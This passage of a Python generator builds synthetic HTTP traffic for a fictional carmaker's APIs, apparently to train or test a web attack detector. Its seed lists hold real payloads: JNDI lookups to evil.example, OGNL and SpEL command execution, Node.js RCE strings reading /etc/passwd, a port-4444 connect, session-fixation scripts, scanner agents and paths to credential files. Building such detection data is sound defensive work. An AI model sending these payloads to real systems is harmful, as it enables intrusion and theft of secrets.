    if r < 0.6:
        return "<?=%s?>" % call
    return call + rng.choice((";", "", ";//", ";#"))


JAVA_SEEDS = (
    "${jndi:ldap://evil.example/a}",
    "${jndi:rmi://198.51.100.4:1099/x}",
    "${jndi:dns://evil.example/q}",
    "${${lower:j}ndi:${lower:l}dap://evil.example/x}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/z}",
    "${jndi:ldaps://203.0.113.9:636/o=tomcat}",
    "java.lang.Runtime.getRuntime().exec('id')",
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "%{(#context['xwork.MethodAccessor.denyMethodExecution']=false)(@java.lang.Runtime@getRuntime().exec('whoami'))}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "#{T(java.lang.System).getenv()}",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "new java.lang.ProcessBuilder({'/bin/sh','-c','id'}).start()",
    "org.apache.commons.collections.functors.InvokerTransformer",
    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
    "javax.script.ScriptEngineManager",
    "java.io.FileOutputStream",
    "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
    "${url:UTF-8:http://evil.example/x}",
    "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>id</string></void></array><void method=\"start\"/></object></java>",
    "<map><entry><jdk.nashorn.internal.objects.NativeString><value class=\"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler/></value></jdk.nashorn.internal.objects.NativeString></entry></map>",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC",
    "@java.lang.Runtime@getRuntime().exec(\"calc\")",
    "com.opensymphony.xwork2.dispatcher.HttpServletResponse",
    "org.apache.struts2.ServletActionContext",
    "java.lang.reflect.Method",
    "''.class.forName('java.lang.Runtime').getMethod('exec',''.class).invoke(''.class.forName('java.lang.Runtime').getRuntime(),'id')",
    "(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())",
)
SPRING_NAMES = (
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
    "class.module.classLoader.resources.context.parent.pipeline.first.suffix",
    "class.classLoader.URLs[0]",
    "class.module.classLoader.DefaultAssertionStatus",
)


def java_payload(rng: random.Random) -> str:
    if rng.random() < 0.7:
        return rng.choice(JAVA_SEEDS)
    proto = rng.choice(("ldap", "rmi", "dns", "ldaps", "iiop", "corba", "nis", "nds", "http"))
    j = rng.choice(("jndi", "${lower:j}ndi", "${::-j}ndi", "j${::-n}di", "${env:X:-j}ndi", "${upper:j}${upper:n}di"))
    return "${%s:%s://%s/%s}" % (j, proto, rng.choice(RFI_HOSTS), rng.choice(("a", "Exploit", "o=x", "${env:USER}", "${sys:java.version}")))


NODE_SEEDS = (
    "require('child_process').exec('id')",
    "require(\"child_process\").execSync(\"cat /etc/passwd\").toString()",
    "process.mainModule.require('child_process').execSync('id')",
    "global.process.mainModule.constructor._load('child_process').exec('whoami')",
    "_$$ND_FUNC$$_function(){require('child_process').exec('ls /')}()",
    "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}",
    "this.constructor.constructor('return process')().exit()",
    "new Function('return process')().mainModule.require('fs').readFileSync('/etc/passwd')",
    "eval(String.fromCharCode(114,101,113,117,105,114,101,40,39,102,115,39,41))",
    "module.exports = function(){ return process.env }",
    "{{constructor.constructor('return process')().env}}",
    "res.end(require('fs').readFileSync('/etc/passwd'))",
    "';return this.process.env;var x='",
    "function(){ return global.process.env }",
    "__proto__[isAdmin]=true",
    "constructor.prototype.isAdmin=true",
    "require('vm').runInNewContext('this.constructor.constructor(\"return process\")()')",
    "process.binding('spawn_sync').spawn({file:'id',args:['id']})",
    "Object.prototype.polluted=1",
    "#{global.process.mainModule.require('child_process').execSync('id')}",
)


def node_payload(rng: random.Random) -> str:
    if rng.random() < 0.75:
        return rng.choice(NODE_SEEDS)
    mod = rng.choice(("child_process", "fs", "net", "vm"))
    call = {"child_process": "exec('%s')", "fs": "readFileSync('%s')", "net": "connect(4444,'%s')", "vm": "runInThisContext('%s')"}[mod]
    arg = rng.choice(("id", "/etc/passwd", "198.51.100.7", "process.exit()", "whoami"))
    wrap = rng.choice(("require('%s').%s", "process.mainModule.require('%s').%s", "new Function(\"return require('%s').%s\")()", "eval(\"require('%s').%s\")"))
    return wrap % (mod, call % arg)


SESSION_SEEDS = (
    "<script>document.cookie=\"sessionid=1234abcd;domain=.automaker.example;path=/\";</script>",
    "javascript:document.cookie='JSESSIONID=ABC123; expires=Fri, 01 Jan 2038 00:00:00 GMT'",
    "<meta http-equiv=\"Set-Cookie\" content=\"PHPSESSID=attacker1234; path=/\">",
    "document.cookie='sid=fixed; domain=automaker.example'",
    "<META HTTP-EQUIV=\"SET-COOKIE\" CONTENT=\"ASPSESSIONIDQQ=XYZ\">",
    "\";document.cookie=\"token=evil;expires=Thu, 18 Dec 2031 12:00:00 UTC\";//",
    "self.document.cookie = 'session=x; domain=.example'",
)
SESSION_NAMES = ("jsessionid", "JSESSIONID", "phpsessid", "PHPSESSID", "aspsessionid", "asp.net_sessionid", "session_id", "session-id", "cfid", "cftoken", "jwsession", "weblogicsession", "phpsession")

SCANNER_AGENTS = (
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "sqlmap/1.8.3 (http://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
    "Nikto/2.5.0",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "gobuster/3.6",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "Wfuzz/3.1.0",
    "Fuzz Faster U Fool v2.1.0-dev",
    "commix/v3.9-stable (https://commixproject.com)",
    "Arachni/v1.5.1",
    "Mozilla/5.0 (compatible; OpenVAS-VT 22.4)",
    "Nessus SOAP v0.0.1 (Nessus.org)",
    "w3af.org",
    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; Acunetix Web Vulnerability Scanner)",
    "Netsparker",
    "Havij",
    "Mozilla/5.0 (Windows NT 10.0) Qualys WAS",
    "dotdotpwn v3.0.2",
    "Mozilla/5.0 (compatible; Vega/1.0)",
    "Morfeus Fucking Scanner",
    "ZmEu",
    "Jorgee",
    "Mozilla/5.0 zgrab/0.x",
    "python-requests/2.31.0",
    "curl/8.5.0",
    "Go-http-client/1.1",
)
SCANNER_HEADERS = (
    ("Acunetix-Product", "WVS/12.0 (Acunetix Web Vulnerability Scanner - Free Edition)"),
    ("Acunetix-Scanning-agreement", "Third Party Scanning PROHIBITED"),
    ("Acunetix-User-agreement", "http://www.acunetix.com/wvs/disc.htm"),
    ("X-Scanner", "Netsparker"),
    ("X-RatProxy-Loop", "1"),
    ("Range", "bytes=0-,5-0,5-1,5-2,5-3,5-4,5-5,5-6,5-7,5-8,5-9,5-10,5-11,5-12,5-13,5-14"),
)
SCANNER_PATHS = (
    "/nessustest", "/w00tw00t.at.ISC.SANS.DFind:)", "/acunetix-wvs-test-for-some-inexistent-file",
    "/appscan_fingerprint/mac_address", "/thereisnowaythat-you-canbethere", "/nessus_is_probing_you_",
    "/w3af/remotefileinclude.html", "/rfiinc.txt", "/netsparker-check.php", "/arachni-probe",
    "/wp-login.php", "/phpmyadmin/index.php", "/admin/config.php", "/cgi-bin/test-cgi", "/HNAP1/",
    "/solr/admin/info/system", "/actuator/env", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/.well-known/security.txt", "/server-status", "/owa/auth/logon.aspx", "/manager/html", "/", "/robots.txt",
)

RESTRICTED_PATHS = (
    "/.env", "/.git/config", "/.git/HEAD", "/.gitignore", "/.svn/entries", "/.hg/store", "/.htaccess", "/.htpasswd",
    "/wp-config.php.bak", "/wp-config.old", "/config/database.yml", "/backup.sql", "/backup/site.bak", "/web.config",
    "/Web.config", "/app/etc/local.xml", "/.aws/credentials", "/.ssh/id_rsa", "/.ssh/authorized_keys", "/.DS_Store",
    "/composer.json", "/composer.lock", "/package.json", "/package-lock.json", "/yarn.lock", "/.bash_history",
    "/config.inc", "/index.php.old", "/admin.php.swp", "/logs/error.log", "/.idea/workspace.xml", "/Dockerfile",
    "/.gitlab-ci.yml", "/.travis.yml", "/.kube/config", "/db/users.mdb", "/includes/config.ini", "/sftp-config.json",
    "/.my.cnf", "/.mysql_history", "/sites/default/settings.php", "/.docker/config.json", "/api/.env", "/v1/.env.backup",
    "/ormconfig.json", "/tsconfig.json", "/webpack.config.js", "/.npmrc", "/dump.sql", "/db.sqlite", "/site.tar.bak",
    "/global.asa", "/bin/app.dll", "/app.config", "/settings.cfg", "/private.key", "/server.key", "/secrets.pwd",
)

# --------------------------------------------------------------------------- benign content

MODELS = ("vela-e", "aurora-gt", "corsa-x5", "nomad-4x4", "lumen-hybrid", "pico-city", "strada-tourer", "vela-e-plus", "terra-suv", "aurora-gt-s")
TRIMS = ("base", "comfort", "sport", "premium", "launch-edition", "gt-line", "business", "adventure")
COLOURS = ("midnight-blue", "glacier-white", "volcano-red", "graphite-grey", "forest-green", "sand-beige", "obsidian-black", "copper-metallic")
OPTION_CODES = ("PANO-ROOF", "TOW-BAR", "HEAT-PUMP", "HUD", "WINTER-PACK", "ADAS-PLUS", "SOUND-12", "WHEELS-20", "WALLBOX-11KW", "MATRIX-LED", "SEAT-VENT", "CARGO-NET")
MARKETS = ("de", "at", "ch", "fr", "it", "es", "nl", "uk", "us", "ca")
LOCALES = (
    ("de-DE", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7"), ("de-AT", "de-AT,de;q=0.9,en;q=0.8"), ("de-CH", "de-CH,de;q=0.9,fr-CH;q=0.8,en;q=0.6"),
    ("fr-FR", "fr-FR,fr;q=0.9,en;q=0.8"), ("it-IT", "it-IT,it;q=0.9,en;q=0.7"), ("es-ES", "es-ES,es;q=0.9"), ("nl-NL", "nl-NL,nl;q=0.9,en;q=0.8"),
    ("en-GB", "en-GB,en;q=0.9"), ("en-US", "en-US,en;q=0.9"), ("en-CA", "en-CA,en;q=0.9,fr-CA;q=0.8"), ("fr-CA", "fr-CA,fr;q=0.9,en-CA;q=0.8"),
    ("ja-JP", "ja-JP,ja;q=0.9,en;q=0.5"), ("zh-CN", "zh-CN,zh;q=0.9,en;q=0.8"), ("ko-KR", "ko-KR,ko;q=0.9,en-US;q=0.8"),
    ("pl-PL", "pl-PL,pl;q=0.9,en;q=0.8"), ("tr-TR", "tr-TR,tr;q=0.9"), ("ru-RU", "ru-RU,ru;q=0.9,en;q=0.8"), ("ar-SA", "ar-SA,ar;q=0.9,en;q=0.8"),
    ("he-IL", "he-IL,he;q=0.9,en;q=0.7"), ("pt-BR", "pt-BR,pt;q=0.9,en;q=0.8"), ("sv-SE", "sv-SE,sv;q=0.9,en;q=0.8"), ("el-GR", "el-GR,el;q=0.9"),
    ("vi-VN", "vi-VN,vi;q=0.9,en;q=0.8"), ("da-DK", "da-DK,da;q=0.9"), ("is-IS", "is-IS,is;q=0.9,en;q=0.8"),
)
NAMES = (
    "Seán O'Brien", "Mary-Kate O'Neil", "Zoë Müller", "François Lefèvre", "José Ñúñez", "Łukasz Wójcik", "Søren Kierkegård",
    "Ana María García-López", "Björn Þórsson", "İsmail Çelik", "Nguyễn Văn An", "田中 太郎", "李小龙", "김민준", "Дмитрий Иванов",
    "Αλέξανδρος Παπαδόπουλος", "محمد العلي", "דוד כהן", "Priya Ramanathan", "D'Angelo Rossi", "Jean-Luc D'Arcy", "Chloé Dubois",
    "Hans-Jürgen Weiß", "Conor MacAodha", "Ngozi Okafor", "Aoife Ní Bhriain", "Renée Laurent-Smith", "Kai Tanaka-Berg", "O'Reilly Fleet Services",
    "Émilie St-Pierre", "Giulia D'Amico", "Mats Öberg", "Fatma Yılmaz", "Ольга Смирнова", "Lars van der Berg", "Siobhán Ó Súilleabháin",
    "John Smith", "Maria Rossi", "Peter Miller", "Anna Schmidt", "Karim Benali", "Mei Lin", "Ahmed O'Hara",
)
STREETS = (
    "22 Delete Ave", "10 Union Square", "5 Select Street", "Rue de l'Église 3", "Hauptstraße 12", "1600 Drop Road", "Calle de la Unión 8",
    "Via dell'Orso 21", "14 Insert Lane", "Am Kreuz 7", "Keizersgracht 221", "3 Where Close", "8 Order Street", "Piazza San Marco 1",
    "Ul. Marszałkowska 84/92", "221B Baker Street", "Storgatan 4", "Route d'Oron 18", "Kärntner Straße 9", "12 From Road",
    "4-2-8 Shibakoen, Minato-ku", "Apt. 5, 77 Grant & Lee Blvd",
)
CITIES = (("Berlin", "10115", "de"), ("Wien", "1010", "at"), ("Zürich", "8001", "ch"), ("Lyon", "69002", "fr"), ("Milano", "20121", "it"),
          ("Madrid", "28013", "es"), ("Amsterdam", "1015 CS", "nl"), ("London", "SW1A 1AA", "uk"), ("Austin", "78701", "us"),
          ("Montréal", "H2X 1Y4", "ca"), ("Köln", "50667", "de"), ("Genève", "1204", "ch"), ("Sevilla", "41004", "es"),
          ("Toronto", "M5V 2T6", "ca"), ("Edinburgh", "EH1 1YZ", "uk"), ("Salzburg", "5020", "at"))
COMMENTS = (
    "Please select the panoramic roof and drop the tow bar from my order.",
    "Where can I pick up the car? I'd prefer the dealer from the city centre.",
    "We live on Union Street, so delivery from the north side is easier.",
    "Could you insert the wallbox quote into the same offer, please?",
    "I'd like to update the delivery date; any day from Monday to Friday works.",
    "Customer says it rattles when driving over 80 km/h on cobblestones.",
    "Can you delete my old booking? I booked twice by mistake. Thanks!",
    "Order by end of month if possible, we need it before the holidays.",
    "My husband and I will come together - is 30 minutes enough for the test drive?",
    "Looking for a family car: 3 kids, 1 dog, lots of luggage.",
    "Is the heat pump included in the comfort trim or only in premium?",
    "I can't make it on Tuesday; would Thursday 10:30 or 14:00 work instead?",
    "Wir möchten gerne eine Probefahrt am Samstag vereinbaren.",
    "Merci de me rappeler après 18h, je travaille toute la journée.",
    "Vorrei sapere se l'auto è disponibile in rosso.",
    "¿Es posible recoger el coche en Sevilla en vez de Madrid?",
    "土曜日の午前中に試乗を希望します。",
    "周末可以试驾吗？谢谢！",
    "주말에 시승 가능한가요?",
    "Можно ли забронировать тест-драйв на субботу?",
    "Dealer D-1001 told me the 20\" wheels are 1,250 EUR - is that right?",
    "Range 450-520 km (WLTP); charging 10-80% in ~28 min. Happy with that.",
    "Select trim: sport. Colour: volcano red. Union of both packs would be ideal!",
    "Drop me an email at the address above, or call +44 20 7946 0958.",
    "Customer complained about noise from the front left wheel; replaced bearing (part 4F0-407-625).",
    "Left rear door seal torn, water ingress after car wash. Replaced under warranty.",
    "Infotainment reboots randomly; updated software from 4.2.1 to 4.3.0 per TSB 2024-17.",
    "Battery coolant pump replaced, fault code EL2031 cleared; test drive 25 km OK.",
    "Please note: O'Brien will collect the car, not the account holder.",
    "I'm not sure which option is best - what would you recommend for winter?",
    "50% deposit paid by bank transfer, ref. INV-2024-0042.",
    "Kids' seats (2x ISOFIX) needed for the test drive, if you have them.",
    "Please don't call before 9 am. Text is fine.",
    "The car from the showroom (the grey one) - is it still for sale?",
    "We're a fleet customer: 12 vehicles, delivery to 3 sites (see addresses).",
)
SEARCHES = (
    "red suv under 40k", "vela e range", "electric suv with tow bar", "union jack edition", "where is my order",
    "drop-top convertible", "select trim comparison", "hybrid 7 seats", "cheapest electric car", "aurora gt 0-100",
    "winter tyres price", "Elektroauto Reichweite", "voiture électrique familiale", "ハイブリッド", "电动车", "lease from 299",
    "insert key fob battery", "trade-in value", "update navigation maps", "charging cable type 2",
)
PASSWORDS = ("Sunflower#2024", "Kx9$mPq!7zR", "blue-Falcon-88", "correct horse battery staple", "Winter2024!", "Tr0ub4dor&3",
             "Ma1son-Bleue", "g7Hk2pLq9vX", "Passwort_123", "Zürich2025?", "sommer!Sonne42")
FAILURE_CODES = ("EL2031", "EL1234", "BR0042", "TR5510", "EN2210", "SU0310", "HV7001", "IN4402")
PART_NOS = ("4F0-407-625", "5Q0-615-301", "8W0-010-102", "BAT-7700", "SEAL-LR-22", "HP-3401", "PUMP-CL-02", "ECU-220-A")
REFERER_PAGES = ("/", "/de/configurator/vela-e?step=colour", "/fr/modeles/aurora-gt", "/en-gb/test-drive", "/models/lumen-hybrid#specs",
                 "/de-de/haendler?plz=10115", "/en-us/offers?utm_source=newsletter&utm_medium=email&utm_campaign=spring", "/account/orders",
                 "/it/configuratore/corsa-x5/interni", "/checkout/summary")
VIN_CHARS = "ABCDEFGHJKLMNPRSTUVWXYZ0123456789"

RETAIL_HOST = "api.automaker.example"
RETAIL_SITE = "https://www.automaker.example"
DEALER_HOST = "dealer-api.automaker.example"
DEALER_SITE = "https://dealers.automaker.example"

BROWSER_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.97",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:124.0) Gecko/20100101 Firefox/124.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 16_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/123.0.6312.52 Mobile/15E148 Safari/604.1",
)
APP_AGENTS = (
    "AutomakerApp/5.12.1 (iPhone; iOS 17.4; Scale/3.00)",
    "AutomakerApp/5.11.0 (Android 14; Pixel 7)",
    "okhttp/4.12.0",
    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UD1A.230803.041)",
    "AutomakerApp/5.12.1 CFNetwork/1494.0.7 Darwin/23.4.0",
)
PARTNER_AGENTS = (
    "DealerConnect/3.4.2 (+https://dms.partner.example)",
    "AutoDMS-Sync/2024.3 (Windows NT 10.0)",
    "Apache-HttpClient/4.5.14 (Java/17.0.9)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "ReactorNetty/1.1.17",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Excel 16.0.17328; Pro)",
)


# --------------------------------------------------------------------------- helpers


def rand_token(rng: random.Random, n: int, alphabet: str = string.ascii_letters + string.digits) -> str:
    return "".join(rng.choice(alphabet) for _ in range(n))


def b64url(rng: random.Random, n: int) -> str:
    return rand_token(rng, n, string.ascii_letters + string.digits + "-_")


def uuid4(rng: random.Random) -> str:
    h = "%032x" % rng.getrandbits(128)
    return "%s-%s-4%s-%s%s-%s" % (h[:8], h[8:12], h[13:16], "89ab"[rng.randrange(4)], h[17:20], h[20:32])


def vin(rng: random.Random) -> str:
    return rand_token(rng, 17, VIN_CHARS)


def dealer_id(rng: random.Random) -> str:
    return "D-%04d" % rng.randint(1000, 1999)


def iso_date(rng: random.Random) -> str:
    return "20%02d-%02d-%02d" % (rng.randint(24, 26), rng.randint(1, 12), rng.randint(1, 28))


def iso_datetime(rng: random.Random) -> str:
    tz = rng.choice(("Z", "+01:00", "+02:00", "-05:00", "+09:00"))
    return "%sT%02d:%s:00%s" % (iso_date(rng), rng.randint(8, 18), rng.choice(("00", "30")), tz)


def email(rng: random.Random) -> str:
    user = rng.choice(("sean.obrien", "zoe+cars", "f.lefevre", "m.rossi", "anna_schmidt", "kim.minjun", "fleet-ops", "d.ivanov", "j.smith1987", "priya.r"))
    return "%s@%s" % (user, rng.choice(("example.com", "mail.example.de", "example.fr", "example.co.uk", "corp.example", "example.jp")))


def phone(rng: random.Random) -> str:
    return rng.choice((
        "+49 (0)30 %03d-%04d" % (rng.randint(100, 999), rng.randint(0, 9999)),
        "+1 (415) 555-%04d" % rng.randint(100, 199),
        "+44 20 7946 %04d" % rng.randint(0, 999),
        "(030) %02d %02d %02d" % (rng.randint(10, 99), rng.randint(10, 99), rng.randint(10, 99)),
        "+33 6 %02d %02d %02d %02d" % tuple(rng.randint(10, 99) for _ in range(4)),
        "+81-3-%04d-%04d" % (rng.randint(1000, 9999), rng.randint(1000, 9999)),
        "0171/%07d" % rng.randint(0, 9999999),
    ))


def jwt(rng: random.Random) -> str:
    return "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.%s.%s" % (b64url(rng, rng.randint(60, 120)), b64url(rng, 86))


def query_string(rng: random.Random, pairs, mode: str = "strict") -> str:
    return "&".join("%s=%s" % (encode_value(rng, k, "strict"), encode_value(rng, str(v), mode)) for k, v in pairs)


def form_body(rng: random.Random, pairs, mode: str = "form") -> str:
    return "&".join("%s=%s" % (enc(T_FORM, k), encode_value(rng, str(v), mode)) for k, v in pairs)


def json_body(rng: random.Random, obj) -> str:
    return json.dumps(obj, ensure_ascii=rng.random() < 0.4, separators=(",", ":") if rng.random() < 0.6 else None)


def multipart_body(rng: random.Random, fields, files) -> tuple[str, str]:
    """fields: [(name, value)], files: [(name, filename, content_type, content)]."""
    boundary = rng.choice(("----WebKitFormBoundary", "---------------------------", "----geckoformboundary", "boundary-")) + rand_token(rng, 16)
    parts = []
    for name, value in fields:
        parts.append('--%s\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n' % (boundary, name, value))
    for name, filename, ctype, content in files:
        parts.append('--%s\r\nContent-Disposition: form-data; name="%s"; filename="%s"\r\nContent-Type: %s\r\n\r\n%s\r\n'
                     % (boundary, name, filename, ctype, content))
    return "".join(parts) + "--%s--\r\n" % boundary, "multipart/form-data; boundary=" + boundary


def xml_escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def xml_body(root: str, fields) -> str:
    inner = "".join("<%s>%s</%s>" % (k, v, k) for k, v in fields)
    return '<?xml version="1.0" encoding="UTF-8"?>\n<%s>%s</%s>' % (root, inner, root)


FILE_CONTENT = {
    "application/pdf": "%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF",
    "image/jpeg": "JFIF-placeholder-binary-data-0123456789",
    "image/png": "PNG-placeholder-image-data-IHDR-IDAT-IEND",
    "text/plain": "Odometer reading at repair: 48213 km.\nTechnician: M. Weber\n",
}


# --------------------------------------------------------------------------- headers


class Headers:
    """An ordered header list that remembers whether names are HTTP/2-lowercase."""

    def __init__(self, lower: bool):
        self.lower = lower
        self.items: list[list[str]] = []

    def add(self, name: str, value: str) -> None:
        self.items.append([name.lower() if self.lower else name, value])

    def has(self, name: str) -> bool:
        return any(n.lower() == name.lower() for n, _ in self.items)

    def drop(self, name: str) -> None:
        self.items = [[n, v] for n, v in self.items if n.lower() != name.lower()]

    def set(self, name: str, value: str) -> None:
        for item in self.items:
            if item[0].lower() == name.lower():
                item[1] = value
                return
        self.add(name, value)


def base_headers(rng: random.Random, site: str, profile: str, method: str) -> Headers:
    """Realistic headers for one client profile: browser, spa, app or partner."""
    h = Headers(lower=rng.random() < 0.4)
    retail = site == "retail"
    h.add("Host", RETAIL_HOST if retail else DEALER_HOST)
    origin = RETAIL_SITE if retail else DEALER_SITE
    locale, accept_language = rng.choice(LOCALES)
    if profile == "browser":
        h.add("User-Agent", rng.choice(BROWSER_AGENTS))
        h.add("Accept", rng.choice(("text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
                                    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")))
        h.add("Accept-Language", accept_language)
        h.add("Accept-Encoding", "gzip, deflate, br")
        if rng.random() < 0.7:
            h.add("Referer", origin + rng.choice(REFERER_PAGES))
        h.add("Upgrade-Insecure-Requests", "1")
        h.add("Sec-Fetch-Dest", "document")
        h.add("Sec-Fetch-Mode", "navigate")
    elif profile == "spa":
        h.add("User-Agent", rng.choice(BROWSER_AGENTS))
        h.add("Accept", rng.choice(("application/json", "application/json, text/plain, */*", "*/*")))
        h.add("Accept-Language", accept_language)
        h.add("Accept-Encoding", "gzip, deflate, br, zstd")
        h.add("Origin", origin)
        h.add("Referer", origin + rng.choice(REFERER_PAGES))
        h.add("Sec-Fetch-Dest", "empty")
        h.add("Sec-Fetch-Mode", "cors")
        h.add("Sec-Fetch-Site", "same-site")
        if rng.random() < 0.5:
            h.add("X-Request-Id", uuid4(rng))
    elif profile == "app":
        h.add("User-Agent", rng.choice(APP_AGENTS))
        h.add("Accept", "application/json")
        h.add("Accept-Language", locale)
        h.add("Accept-Encoding", "gzip")
        h.add("X-Client-Version", rng.choice(("5.12.1", "5.11.0", "5.10.3", "6.0")))
    else:  # partner
        h.add("User-Agent", rng.choice(PARTNER_AGENTS))
        h.add("Accept", rng.choice(("application/json", "application/json, application/xml;q=0.9", "*/*")))
        if rng.random() < 0.6:
            h.add("Accept-Language", rng.choice(("de-DE", "en-US", "fr-FR", "it-IT", "en")))
        h.add("Accept-Encoding", rng.choice(("gzip, deflate", "gzip")))
        h.add("X-Dealer-Id", dealer_id(rng))
        if rng.random() < 0.5:
            h.add("Authorization", "Bearer " + jwt(rng))
        else:
            h.add("X-Api-Key", "dk_live_" + b64url(rng, 32))
        h.add("X-Request-Id", uuid4(rng))
        if rng.random() < 0.3:
            h.add("traceparent", "00-%032x-%016x-01" % (rng.getrandbits(128), rng.getrandbits(64)))
    if profile in ("spa", "app") and rng.random() < 0.6:
        h.add("Authorization", "Bearer " + jwt(rng))
    if profile in ("browser", "spa") and rng.random() < 0.6:
        cookies = ["session=%s" % b64url(rng, 43), "consent=%s" % rng.choice(("analytics%3Dfalse%26ads%3Dfalse", "all", "necessary"))]
        if rng.random() < 0.5:
            cookies.append("_ga=GA1.2.%d.%d" % (rng.randint(10**8, 10**9), rng.randint(1600000000, 1750000000)))
        if rng.random() < 0.4:
            cookies.append("locale=" + locale)
        if rng.random() < 0.3:
            cookies.append("cart=%s" % uuid4(rng))
        rng.shuffle(cookies)
        h.add("Cookie", "; ".join(cookies))
    if rng.random() < 0.25:
        h.add("X-Forwarded-For", "%d.%d.%d.%d" % (rng.choice((81, 88, 93, 185, 213, 62)), rng.randint(0, 255), rng.randint(0, 255), rng.randint(1, 254)))
    if rng.random() < 0.15:
        h.add("Cache-Control", rng.choice(("no-cache", "max-age=0")))
    if rng.random() < 0.5:
        h.add("Connection", "keep-alive")
    return h


def with_body(h: Headers, body: str, ctype: str | None) -> None:
    if ctype is not None:
        h.set("Content-Type", ctype)
    h.set("Content-Length", str(len(body.encode("utf-8"))))


# --------------------------------------------------------------------------- benign requests


def benign_retail(rng: random.Random) -> tuple:
    kind = rng.randrange(17)
    method, path, query, body, ctype = "GET", "/", [], None, None
    profile = rng.choice(("spa", "spa", "app", "browser"))
    if kind == 0:
        path = "/v1/configurator/models"
        query = [("market", rng.choice(MARKETS))] + ([("page", rng.randint(1, 5))] if rng.random() < 0.5 else [])
        if rng.random() < 0.2:
            method = "HEAD"
    elif kind == 1:
        path = "/v1/configurator/models/" + rng.choice(MODELS)
    elif kind == 2:
        path = "/v1/configurator/models/%s/options" % rng.choice(MODELS)
        query = [("trim", rng.choice(TRIMS)), ("colour", rng.choice(COLOURS))]
        profile = "app"
    elif kind == 3:
        method, path = "POST", "/v1/configurator/quotes"
        city = rng.choice(CITIES)
        body = json_body(rng, {"model": rng.choice(MODELS), "options": rng.sample(OPTION_CODES, rng.randint(0, 5)),
                               "postcode": city[1], "market": city[2]})
        ctype = "application/json"
    elif kind == 4:
        path = "/v1/dealers"
        query = [("postcode", rng.choice(CITIES)[1]), ("radius_km", rng.choice((10, 25, 50, 100)))]
    elif kind == 5:
        path = "/v1/test-drives/slots"
        query = [("dealer_id", dealer_id(rng)), ("model", rng.choice(MODELS)), ("date", iso_date(rng))]
    elif kind == 6:
        method, path = "POST", "/v1/test-drives"
        obj = {"dealer_id": dealer_id(rng), "model": rng.choice(MODELS), "slot": iso_datetime(rng), "name": rng.choice(NAMES)}
        if rng.random() < 0.7:
            obj["phone"] = phone(rng)
        if rng.random() < 0.6:
            obj["comment"] = rng.choice(COMMENTS)
        body, ctype = json_body(rng, obj), rng.choice(("application/json", "application/json; charset=utf-8"))
    elif kind == 7:
        path = "/v1/test-drives/" + uuid4(rng)
    elif kind == 8:
        method, path = "POST", "/v1/auth/login"
        body = json_body(rng, {"email": email(rng), "password": rng.choice(PASSWORDS)})
        ctype = "application/json"
    elif kind == 9:
        method, path = "POST", "/v1/auth/token"
        body = form_body(rng, [("grant_type", "refresh_token"), ("refresh_token", b64url(rng, 64)), ("client_id", "retail-web")])
